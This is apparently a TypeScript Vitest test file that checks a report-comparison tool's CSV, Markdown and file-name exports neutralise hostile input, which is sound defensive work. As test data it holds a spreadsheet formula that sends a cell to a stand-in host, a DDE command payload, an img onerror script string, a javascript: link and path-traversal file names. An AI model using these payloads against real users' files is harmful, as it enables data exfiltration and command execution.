// Exports stay inert when opened elsewhere: CSV cells a spreadsheet would run as formulas, Markdown
// and HTML in titles and headings, and download names with paths or control characters, all from a
// hostile report as the parser reads it.
import { describe, expect, it } from 'vitest';
import { parseReport } from '../../src/parse';
import { align, toMarkdown } from '../../src/compare/index';
import { escapeMarkdown } from '../../src/compare/markdown';
import { inertText, parseCsv, toCsv } from '../../src/trends/csv';
import { figureRows } from '../../src/trends/figure-rows';
import { baseName, safeDownloadName } from '../../src/lib/download-name';
import type { ParsedReport } from '../../src/model/report';
import { parsedSeed, SEEDS } from '../support/variants';

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const HOSTILE_TEXT = [
  HOSTILE_TITLE,
  '',
  '一、<img src=x onerror=alert(1)>',
  '今年交办提案302件，办复率100%。',
  '二、# 标题|管道 [链接](javascript:alert(1)) **粗体** `代码`',
  '报送社情民意145篇，开展调研视察20次。',
  '三、@SUM(1+1)*cmd|\' /C calc\'!A0',
  '新增各类停车位7639个。',
].join('\n');

/** Headings as the parser reads them; the title as a header line or a reader's correction may set it. */
function hostile(): ParsedReport {
  const r = parseReport(new TextEncoder().encode(HOSTILE_TEXT), '../../etc/=cmd|calc.txt');
  if (!r.ok) throw new Error(r.error);
  return { ...r.report, title: HOSTILE_TITLE };
}

describe('CSV cells', () => {
  it('neutralises text that begins with = + - @ tab or CR, and nothing else', () => {
    for (const s of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("x")', '-cmd']) expect(inertText(s), s).toBe(`'${s}`);
    for (const s of ['提案', 'a=b', ' 1', '', '1-2', "'=quoted"]) expect(inertText(s), s).toBe(s);
    // Numbers written as text stay numbers.
    for (const s of ['-3.4', '+8', '12', '-0.5%', '1e3']) expect(inertText(s), s).toBe(s);
  });

  it('keeps numbers numeric, negative ones too, and round-trips hostile text quoted', () => {
    const csv = toCsv(['a', 'b', 'c', 'd'], [[-3.4, '=1+1', '-2', '@x,"y"\nz'], [0, '\tTAB', '+1-1', null]]);
    const rows = parseCsv(csv);
    expect(rows[1]).toEqual(['-3.4', "'=1+1", '-2', '\'@x,"y"\nz']);
    expect(rows[2]).toEqual(['0', "'\tTAB", "'+1-1", '']);
    for (const row of rows.slice(1)) for (const cell of row) expect(/^[=+@\t\r]/.test(cell) || /^-\D/.test(cell), cell).toBe(false);
  });

  it('exports a hostile report\'s figures with every text cell inert', () => {
    const report = hostile();
    const rows = figureRows('id', report);
    expect(rows.length).toBeGreaterThan(0);
    const csv = toCsv(['title', 'section', 'phrase', 'value'], rows.map((r) => [r.title, r.section, r.text, r.value]));
    const parsed = parseCsv(csv).slice(1);
    expect(parsed[0]![0]).toBe(`'${HOSTILE_TITLE}`);
    expect(parsed.map((r) => Number(r[3]))).toEqual(rows.map((r) => r.value));
    for (const row of parsed) for (const cell of row.slice(0, 3)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('Markdown export', () => {
  it('escapes Markdown and HTML so a title renders as the text it was', () => {
    expect(escapeMarkdown('<img src=x onerror=alert(1)>')).toBe('\\<img src=x onerror=alert\\(1\\)\\>');
    expect(escapeMarkdown('# 标题 | [a](b) **c** `d` &lt; ~~e~~ ![i](j)')).toBe(
      '\\# 标题 \\| \\[a\\]\\(b\\) \\*\\*c\\*\\* \\`d\\` \\&lt; \\~\\~e\\~\\~ \\!\\[i\\]\\(j\\)');
    expect(escapeMarkdown('一行\n二行\r\n三行')).toBe('一行 二行 三行');
  });

  it('writes a hostile report\'s titles and headings escaped, one table cell each', () => {
    const a = hostile(), b = parsedSeed(SEEDS[0]!);
    expect(a.outline.map((h) => h.title).join('\n')).toContain('<img src=x onerror=alert(1)>');
    const md = toMarkdown(align(a, b), a, b);
    // No raw tag, link, image or heading marker survives from the report's own text.
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).not.toMatch(/(?<!\\)\[链接(?<!\\)\]/);
    expect(md).not.toMatch(/(?<!\\)\*\*粗体/);
    expect(md).toContain('\\<img src=x onerror=alert\\(1\\)\\>');
    expect(md).toContain(`左:${escapeMarkdown(HOSTILE_TITLE)}`);
    for (const line of md.split('\n').filter((l) => l.startsWith('| '))) expect(line.split(/(?<!\\)\|/).length, line).toBe(6);
    // Only the export's own lines start a heading.
    expect(md.split('\n').filter((l) => l.startsWith('#'))).toEqual(['# 报告对比', '## 变化']);
  });
});

describe('download names', () => {
  it('have no path separators, control or bidi characters, reserved names or leading dots', () => {
    const cases: [string, string][] = [
      ['../../etc/passwd', '_.._etc_passwd'],
      ['a\\b/c.txt', 'a_b_c.txt'],
      ['报告\u0000\u0007\u001f.txt', '报告.txt'],
      ['evil\u202Etxt.exe', 'eviltxt.exe'],
      ['line\nbreak\tname.csv', 'line break name.csv'],
      ['CON.txt', '_CON.txt'],
      ['...', 'download'],
      ['  .hidden  ', 'hidden'],
      ['a:b*c?"d"<e>|f.md', 'a_b_c_d_e_f.md'],
    ];
    for (const [raw, safe] of cases) expect(safeDownloadName(raw), JSON.stringify(raw)).toBe(safe);
    const long = safeDownloadName(`${'长'.repeat(300)}.docx`);
    expect(long.length).toBeLessThanOrEqual(120);
    expect(long.endsWith('.docx')).toBe(true);
  });

  it('name an original from a zip or folder by its last path segment', () => {
    expect(baseName('folder/sub/报告.txt')).toBe('报告.txt');
    expect(baseName('a\\b\\c.docx')).toBe('c.docx');
    expect(safeDownloadName(baseName(hostile().fileName))).toBe('=cmd_calc.txt');
  });
});
